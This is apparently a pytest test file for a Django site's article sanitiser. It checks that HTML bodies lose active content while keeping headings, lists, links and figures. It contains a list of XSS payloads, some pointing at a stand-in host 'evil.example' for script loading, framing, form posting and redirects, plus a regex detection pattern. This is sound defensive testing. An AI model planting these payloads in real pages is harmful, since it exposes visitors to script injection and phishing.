import re

import pytest

from articles.models import Article
from tests.builders import make_article

pytestmark = pytest.mark.django_db

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
    '<a href="vbscript:msgbox(1)">点我</a>',
    '<p style="background:url(javascript:alert(1))">样式</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<form action="https://evil.example"><input name="p"></form>',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div onmouseover="alert(1)">移过来</div>',
    '<base href="https://evil.example/">',
    '<p><a href="https://ok.example" onclick="alert(1)">链接</a></p>',
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<video><source onerror="alert(1)"></video>',
    '<a href=" javascript:alert(1)">空格</a>',
]

DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|style|svg|math|meta|link|base|"
    r"body|video|source|details)\b|\son\w+\s*=|javascript:|vbscript:|data:text",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitiser_removes_every_active_part(payload):
    article = make_article(body=f"<p>前文</p>{payload}<p>后文</p>")
    article.refresh_from_db()
    assert not DANGEROUS.search(article.body), article.body


def test_sanitiser_keeps_the_editorial_markup():
    body = (
        "<h2>小标题</h2><p><strong>粗体</strong>和<em>斜体</em></p>"
        "<ul><li>一</li></ul><ol><li>二</li></ol>"
        "<blockquote><p>引文</p></blockquote>"
        '<p><a href="https://www.hangzhou.gov.cn/">杭州</a></p>'
        '<figure><img src="/media/a.jpg" alt="卫生院"><figcaption>新卫生院</figcaption>'
        "</figure>"
    )
    article = make_article(body=body)
    article.refresh_from_db()
    for fragment in (
        "<h2>小标题</h2>",
        "<strong>粗体</strong>",
        "<em>斜体</em>",
        "<ul><li>一</li></ul>",
        "<ol><li>二</li></ol>",
        "<blockquote><p>引文</p></blockquote>",
        'href="https://www.hangzhou.gov.cn/"',
        '<img src="/media/a.jpg" alt="卫生院">',
        "<figcaption>新卫生院</figcaption>",
    ):
        assert fragment in article.body


def test_sanitised_body_is_what_the_public_page_shows(client):
    article = make_article(body='<p>正文<img src=x onerror="alert(1)"></p>')
    html = client.get(article.get_absolute_url()).content.decode()
    assert "onerror" not in html
    assert Article.objects.get(pk=article.pk).body in html
